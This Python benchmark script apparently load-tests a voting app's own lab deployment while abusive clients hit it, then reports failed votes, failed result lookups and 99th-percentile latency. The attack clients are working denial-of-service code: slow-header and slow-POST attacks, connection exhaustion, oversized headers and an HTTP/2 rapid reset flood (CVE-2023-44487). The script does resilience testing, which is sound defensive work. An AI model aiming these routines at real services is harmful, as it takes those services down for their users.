#!/usr/bin/env python3
"""Clients that misuse the site, from one address, beside people who vote and watch.

    ./landslide up
    export PYTHONPATH=cli:tools:apps:apps/frontend:bench
    .venv/bin/python -P bench/misuse.py [-e @FILE] [--seconds N] [--rate N] [--only WORD]

Votes come by ./landslide load from an address of its own, and from another one somebody who looks
at the results four times a second, on a new connection each, and watches two streams of events: at
the load balancer, and at the results app's own port. For each misuse: how many votes and looks
failed, and the 99th percentile of what the others took. It ends with 1 if any failed, or took 2 s.
"""

import asyncio
import json
import math
import resource
import ssl
import sys
import threading
from asyncio import StreamReader, StreamWriter
from collections.abc import Awaitable, Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from typing import Any, NamedTuple

import click
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import H2Error
from landslide_cli.inventory import Inventory, inventory_options
from landslide_tools.load.lab import Lab
from landslide_tools.load.trial import find_lab
from pipeline import load

HOST = "results.votingapp.local"
MOST_SECONDS = 2.0
# Runs on a node, with nothing but Python.
VIEWER = """
import http.client, json, sys, threading, time
HOST, END = sys.argv[1], time.monotonic() + float(sys.argv[2])
report = {"looks": [], "failed": [], "events": {}}
def look(address):
    while time.monotonic() < END:
        began = time.monotonic()
        try:
            connection = http.client.HTTPConnection(address, 80, timeout=10)
            connection.request("GET", "/api/results", headers={"Host": HOST})
            answer = connection.getresponse()
            answer.read()
            if answer.status != 200:
                raise OSError(answer.status)
            report["looks"].append(time.monotonic() - began)
        except (OSError, http.client.HTTPException) as error:
            report["failed"].append(f"{address} {error!r}")
        connection.close()
        time.sleep(0.25)
def watch(address):
    report["events"][address] = 0
    while time.monotonic() < END:
        try:
            connection = http.client.HTTPConnection(address, 80, timeout=20)
            connection.request("GET", "/events", headers={"Host": HOST})
            answer = connection.getresponse()
            if answer.status != 200:
                raise OSError(f"events {answer.status}")
            while time.monotonic() < END and (line := answer.readline()):
                report["events"][address] += line.startswith(b"data: ")
            if not line:
                raise OSError("events ended")
        except (OSError, http.client.HTTPException) as error:
            report["failed"].append(f"{address} {error!r}")
            time.sleep(1)
threads = [threading.Thread(target=do, args=(to,)) for do in (look, watch) for to in sys.argv[3:]]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
print(json.dumps(report))
"""

Talk = Callable[[StreamReader, StreamWriter], Awaitable[None]]


async def idle(reader: StreamReader, _: StreamWriter) -> None:
    """Say nothing."""
    await reader.read()


def slow(head: bytes) -> Talk:
    """Begin a request, and go on with a byte a second."""

    async def talk(_: StreamReader, writer: StreamWriter) -> None:
        writer.write(head)
        while not writer.is_closing():
            await writer.drain()
            await asyncio.sleep(1)
            writer.write(b"a")

    return talk


def ask(request: bytes) -> Talk:
    """Send a request, and read whatever comes until the other end has had enough."""

    async def talk(reader: StreamReader, writer: StreamWriter) -> None:
        writer.write(request)
        await writer.drain()
        while await reader.read(65536):
            pass

    return talk


async def rapid_reset(reader: StreamReader, writer: StreamWriter) -> None:
    """Begin requests by HTTP/2 and take them back, a thousand at a time (CVE-2023-44487)."""
    connection = H2Connection(H2Configuration(header_encoding=None))
    connection.initiate_connection()
    headers = [(":method", "GET"), (":path", "/"), (":scheme", "https"), (":authority", HOST)]
    for first in range(1, 2**31, 2000):
        for stream in range(first, first + 2000, 2):
            connection.send_headers(stream, headers, end_stream=True)
            connection.reset_stream(stream)
        writer.write(connection.data_to_send())
        await writer.drain()
        with suppress(TimeoutError):
            async with asyncio.timeout(0.01):
                if not (data := await reader.read(65536)):
                    return
                connection.receive_data(data)


class Misuse(NamedTuple):
    """What `clients` connections do; each is made anew where the other end has closed it."""

    talk: Talk
    clients: int
    at_store: bool = False
    tls: ssl.SSLContext | None = None


def tls(*protocols: str) -> ssl.SSLContext:
    """Any certificate will do: the lab's is its own."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols))
    return context


GET = f"GET %s HTTP/1.1\r\nHost: {HOST}\r\n"
BALLOT = b"POST / HTTP/1.1\r\nHost: vote\r\nContent-Length: 1000\r\n\r\nvote="
EVENTS = ask((GET % "/events" + "\r\n").encode())
HUGE = ask((GET % "/" + f"X-Huge: {'a' * 60000}\r\n\r\n").encode())
MISUSES = {
    "none": Misuse(idle, 0),
    "idle connections": Misuse(idle, 5000),
    "idle connections by TLS": Misuse(idle, 500, tls=tls("http/1.1")),
    "slow headers": Misuse(slow((GET % "/" + "X-Slow: ").encode()), 2000),
    "slow ballots": Misuse(slow(BALLOT), 2000),
    "huge headers": Misuse(HUGE, 20),
    "rapid reset": Misuse(rapid_reset, 4, tls=tls("h2")),
    # All that the app has room for.
    "event streams": Misuse(EVENTS, 4000),
    "idle connections, own port": Misuse(idle, 9000, at_store=True),
    "slow headers, own port": Misuse(slow((GET % "/" + "X-Slow: ").encode()), 2000, at_store=True),
    "huge headers, own port": Misuse(HUGE, 20, at_store=True),
    "event streams, own port": Misuse(EVENTS, 4000, at_store=True),
}


class Attack:
    """The clients of a misuse, while it goes on."""

    def __init__(self, misuse: Misuse, address: str) -> None:
        self._misuse, self._address = misuse, address
        self.connections = self.open = self.most = 0

    async def run(self, ended: threading.Event) -> None:
        """Go on until `ended`."""
        clients = [asyncio.create_task(self._client()) for _ in range(self._misuse.clients)]
        await asyncio.to_thread(ended.wait)
        for client in clients:
            client.cancel()
        await asyncio.gather(*clients, return_exceptions=True)

    async def _client(self) -> None:
        port = 443 if self._misuse.tls else 80
        while True:
            with suppress(OSError, TimeoutError, H2Error):
                async with asyncio.timeout(10):
                    reader, writer = await asyncio.open_connection(
                        self._address, port, ssl=self._misuse.tls
                    )
                self.connections += 1
                self.open += 1
                self.most = max(self.most, self.open)
                try:
                    await self._misuse.talk(reader, writer)
                finally:
                    self.open -= 1
                    writer.transport.abort()
            # Bounded: they share the machine with all others.
            await asyncio.sleep(1)


def percentile(seconds: Sequence[float], share: float) -> float:
    """The value that `share` of them do not exceed; infinite where there are none."""
    ordered = sorted(seconds)
    return ordered[math.ceil(share * len(ordered)) - 1] if ordered else math.inf


def watch(lab: Lab, node: str, seconds: int, addresses: Sequence[str]) -> dict[str, Any]:
    """What somebody on a node has seen of the results."""
    command = ["python3", "-c", VIEWER, HOST, str(seconds), *addresses]
    code, said = lab.nodes[node].exec_run(command)
    if code:
        raise RuntimeError(said.decode())
    report: dict[str, Any] = json.loads(said)
    return report


@click.command()
@inventory_options
@click.option("--seconds", default=60, show_default=True)
@click.option("--rate", default=50, show_default=True, help="Votes a second.")
@click.option("--only", default="", metavar="WORD", help="Those whose names begin with it.")
def main(inventory: Inventory, seconds: int, rate: int, only: str) -> None:
    """Measure, and print."""
    files = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))
    site, _ = find_lab(inventory)
    lab, balancer = site.lab, site.balancers[0]
    networks = lab.nodes[inventory.groups["store"][0]].attrs["NetworkSettings"]["Networks"]
    store = networks[lab.network]["IPAddress"]
    how = ["--rate", str(rate), "--seconds", str(seconds), "--votes", str(rate * seconds)]
    how += ["--fresh", "0.5", "--https", "0.5"]
    bad = False
    for name, misuse in MISUSES.items():
        if not name.startswith(only):
            continue
        ended = threading.Event()
        attack = Attack(misuse, store if misuse.at_store else balancer)
        with ThreadPoolExecutor() as pool:
            attacking = pool.submit(asyncio.run, attack.run(ended))
            try:
                manager = inventory.groups["manager"][0]
                watching = pool.submit(watch, lab, manager, seconds, [balancer, store])
                votes = load([*inventory.arguments, *how])
                seen = watching.result()
            finally:
                ended.set()
            attacking.result()
        failed = votes["sent"] - votes["acknowledged"]
        latency, looks = votes["latency"]["99"] / 1000, percentile(seen["looks"], 0.99)
        bad |= bool(failed or seen["failed"]) or max(latency, looks) >= MOST_SECONDS
        print(
            f"{name}: {attack.connections:,} connections, {attack.most:,} at once\n"
            f"    votes: {votes['sent']:,}, failed {failed}, lost {votes['lost']}, doubled "
            f"{votes['doubled']}; 99 % within {latency:.3f} s\n"
            f"    looks: {len(seen['looks']):,}, failed {len(seen['failed'])}; 99 % within "
            f"{looks:.3f} s; events {' and '.join(map(str, seen['events'].values()))}",
            *(f"\n    {failure}" for failure in seen["failed"][:5]),
            flush=True,
        )
    sys.exit(bad)


if __name__ == "__main__":
    main()
